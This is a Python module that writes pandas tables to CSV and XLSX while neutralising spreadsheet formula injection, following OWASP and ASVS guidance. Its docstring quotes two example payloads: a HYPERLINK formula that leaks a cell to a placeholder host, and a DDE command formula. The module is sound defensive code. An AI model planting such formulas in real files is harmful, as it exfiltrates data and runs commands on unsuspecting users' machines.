"""Tables written for spreadsheets (CSV and XLSX) so that opening them in Excel runs nothing.

Every CSV and XLSX file or download Tandem produces goes through this module
(``to_csv_bytes``, ``write_csv``, ``to_xlsx_bytes``, ``write_xlsx``); nothing else calls
``DataFrame.to_csv`` or ``to_excel`` for an export.

The threat (OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection;
ASVS 5.0 requirement 1.2.10): a spreadsheet treats a cell whose first character is ``=``,
``+``, ``-`` or ``@`` (also after a leading tab or carriage return) as a formula, so a
coded passage, code name, city name or memo such as ``=HYPERLINK("http://x/?"&A1)`` or
``+cmd|' /C calc'!A0`` would run when a colleague opens the export. The rule applied here:

* **Text cells** (and column headers, index labels, the sheet name's cells) whose first
  character is one of ``= + - @``, tab (U+0009), carriage return (U+000D) or NUL (U+0000,
  listed by ASVS) get **one leading single quote** (``'``), OWASP's "prepend each cell
  field with a single quote". Excel and LibreOffice then show the text instead of
  evaluating it (the quote may be visible in the cell; that is the price of safety).
* **Text that starts with a single quote** gets one more quote too, so the rule is exactly
  reversible: :func:`restore` drops one leading quote and ``restore(neutralise(s)) == s``
  for every string (Tandem's own importers, e.g. the codebook CSV, call it).
* **Numeric strings are left alone**: a text cell that is a plain decimal number
  (``-0.3``, ``+12``, ``-1.5e-3``; ASCII digits only, nothing else in the cell) is what a
  spreadsheet reads as that number, not as a formula, so it cannot carry a payload;
  prefixing it would only turn a readable ``-0.3`` into ``'-0.3``. Anything more
  (``-2+3``, ``-0.3**``, ``-1,234``, ``-inf``) is prefixed.
* **Numbers stay numbers**: numeric, boolean and date columns (and numbers inside mixed
  columns) are written as they are; a negative number stored as a number is not a formula.

CSV: UTF-8 **with a byte-order mark** (``utf-8-sig``) so that Excel on Chinese Windows reads
the characters, LF line ends, and every text field double-quoted (``csv.QUOTE_NONNUMERIC``),
so that a semicolon inside a text (``a;=1+2``) cannot start a new cell in a spreadsheet whose
list separator is ``;`` (OWASP: mind the separators too).

XLSX (openpyxl): every text cell is stored with data type ``'s'`` (a string, never ``'f'``, a
formula), carrying the same neutralised text as the CSV (so that a sheet saved again as CSV
from Excel stays safe). Characters XML cannot hold (C0 controls other than tab, LF, CR) are
replaced by U+FFFD, and a text longer than Excel's 32,767-character cell limit is cut to
32,766 characters plus ``…``; both happen only in XLSX.

A ``MultiIndex`` on the columns is flattened into one header row, levels joined by
``" / "``. With ``index=True`` the index is written as the first column(s), its name as
header (empty when unnamed).
"""
from __future__ import annotations

import csv
import datetime as _dt
import io
import math
import numbers
import os
import re
import tempfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

__all__ = [
    "CSV_ENCODING", "TRIGGERS", "neutralise", "restore", "safe_frame", "to_csv_bytes", "to_csv_text",
    "to_xlsx_bytes", "write_bytes_atomic", "write_csv", "write_xlsx",
]

#: First characters that make a spreadsheet read a cell as a formula (OWASP; NUL from ASVS).
TRIGGERS = frozenset("=+-@\t\r\0")
#: Encoding of every CSV: UTF-8 with a byte-order mark.
CSV_ENCODING = "utf-8-sig"
#: Excel's limit on the characters of one cell.
XLSX_CELL_LIMIT = 32_767

_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralise(value: Any) -> Any:
    """``value`` with one leading ``'`` if it is text a spreadsheet could run as a formula.

    Text starting with ``= + - @``, tab, CR or NUL, or with ``'`` itself, is prefixed, except
    a plain decimal number (``"-0.3"``). Anything that is not ``str`` is returned unchanged.
    """
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first == "'" or (first in TRIGGERS and not _NUMBER.fullmatch(value)):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The inverse of :func:`neutralise`: drop the one ``'`` that :func:`neutralise` would add.

    ``restore(neutralise(s)) == s`` for every string; a text whose leading quote
    :func:`neutralise` would not have added (``"'quoted' words"``) is returned unchanged.
    """
    if isinstance(value, str) and value.startswith("'") and neutralise(value[1:]) == value:
        return value[1:]
    return value


def _is_plain(value: Any) -> bool:
    """Values a spreadsheet stores as they are: missing, numbers, booleans, dates."""
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, (numbers.Number, np.number, np.bool_, bool, _dt.date, _dt.datetime, pd.Timestamp))


def _cell(value: Any) -> Any:
    if isinstance(value, str):
        return neutralise(value)
    if _is_plain(value):
        return value
    return neutralise(str(value))  # lists, dicts, other objects: their text, neutralised


def _label(value: Any) -> Any:
    if isinstance(value, tuple):  # a MultiIndex column: one header cell
        value = " / ".join(str(v) for v in value if v is not None and str(v) != "")
    return _cell("" if value is None else value)


def safe_frame(df: pd.DataFrame, *, index: bool = False) -> pd.DataFrame:
    """A copy of ``df`` with every text cell and header neutralised, ready to write.

    Parameters
    ----------
    df : DataFrame
    index : bool
        Move the index into the first column(s) (its name, or ``""``, as header).

    Returns
    -------
    DataFrame with a flat column index of neutralised labels and a fresh ``RangeIndex``;
    numeric, boolean and datetime columns are untouched, text columns are ``object``.

    Raises
    ------
    TypeError
        ``df`` is not a DataFrame.
    """
    if not isinstance(df, pd.DataFrame):
        raise TypeError(f"Only a DataFrame can be exported, got {type(df).__name__}.")
    frame = df.copy()
    frame.attrs = {}
    if index:
        names = ["" if n is None else n for n in frame.index.names]
        if len(names) == 1 and names[0] == "" and "" in frame.columns:
            names = ["index"]
        frame.index = frame.index.set_names(names)
        frame = frame.reset_index()
    else:
        frame = frame.reset_index(drop=True)
    labels = [_label(c) for c in frame.columns]
    columns = {}
    for position in range(frame.shape[1]):
        series = frame.iloc[:, position]
        dtype = series.dtype
        if pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_bool_dtype(dtype) \
                or pd.api.types.is_datetime64_any_dtype(dtype):
            columns[position] = series.reset_index(drop=True)
        else:
            columns[position] = pd.Series([_cell(v) for v in series.astype(object)], dtype=object)
    out = pd.DataFrame(columns)
    out.columns = labels
    return out


def to_csv_text(df: pd.DataFrame, *, index: bool = False) -> str:
    """The CSV as text, starting with the byte-order mark ``\\ufeff`` (see the module notes)."""
    frame = safe_frame(df, index=index)
    text = frame.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    return "\ufeff" + text


def to_csv_bytes(df: pd.DataFrame, *, index: bool = False) -> bytes:
    """The CSV as UTF-8 bytes with a byte-order mark, for a download button or a file."""
    return to_csv_text(df, index=index).encode("utf-8")


def write_bytes_atomic(path: str | Path, data: bytes) -> Path:
    """Write ``data`` to ``path`` through a temporary file in the same folder and ``os.replace``.

    An error (or a crash) part way leaves the old file, or no file, never half of one.
    Returns the path written.
    """
    target = Path(path)
    fd, tmp = tempfile.mkstemp(prefix=f".{target.name}.", suffix=".tmp", dir=target.parent or Path("."))
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
        os.replace(tmp, target)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise
    return target


def write_csv(df: pd.DataFrame, path: str | Path, *, index: bool = False) -> Path:
    """Write the CSV (see :func:`to_csv_bytes`) to ``path``, atomically."""
    return write_bytes_atomic(path, to_csv_bytes(df, index=index))


def _xlsx_value(value: Any) -> Any:
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, (np.bool_, bool)):
        return bool(value)
    if isinstance(value, numbers.Integral):
        return int(value)
    if isinstance(value, numbers.Real):
        value = float(value)
        return None if math.isnan(value) else (str(value) if math.isinf(value) else value)
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, _dt.datetime) and value.tzinfo is not None:  # Excel has no time zones
        value = value.astimezone(_dt.timezone.utc).replace(tzinfo=None)
    if isinstance(value, (_dt.date, _dt.datetime)):
        return value
    if isinstance(value, numbers.Number):  # complex and the like: as text
        return str(value)
    text = _XML_ILLEGAL.sub("\ufffd", str(value))
    if len(text) > XLSX_CELL_LIMIT:
        text = text[: XLSX_CELL_LIMIT - 1] + "…"
    return text


def _sheet_title(name: str) -> str:
    title = re.sub(r"[\[\]:*?/\\]", "_", _XML_ILLEGAL.sub("", str(name))).strip("'")[:31]
    return title or "Sheet1"


def to_xlsx_bytes(df: pd.DataFrame, *, index: bool = False, sheet: str = "Sheet1") -> bytes:
    """The table as an XLSX workbook (one sheet, header row first); text is never a formula.

    Parameters
    ----------
    df : DataFrame
    index : bool
        Write the index as the first column(s).
    sheet : str
        Sheet name (characters Excel refuses become ``_``; at most 31 characters).

    Returns
    -------
    bytes of the .xlsx file.
    """
    from openpyxl import Workbook

    frame = safe_frame(df, index=index)
    book = Workbook()
    ws = book.active
    ws.title = _sheet_title(sheet)
    rows = [list(frame.columns)] + frame.astype(object).to_numpy().tolist()
    for r, row in enumerate(rows, start=1):
        for c, raw in enumerate(row, start=1):
            value = _xlsx_value(raw)
            if value is None:
                continue
            cell = ws.cell(row=r, column=c)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would store a text starting with '=' as a formula
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def write_xlsx(df: pd.DataFrame, path: str | Path, *, index: bool = False, sheet: str = "Sheet1") -> Path:
    """Write the workbook (see :func:`to_xlsx_bytes`) to ``path``, atomically."""
    return write_bytes_atomic(path, to_xlsx_bytes(df, index=index, sheet=sheet))
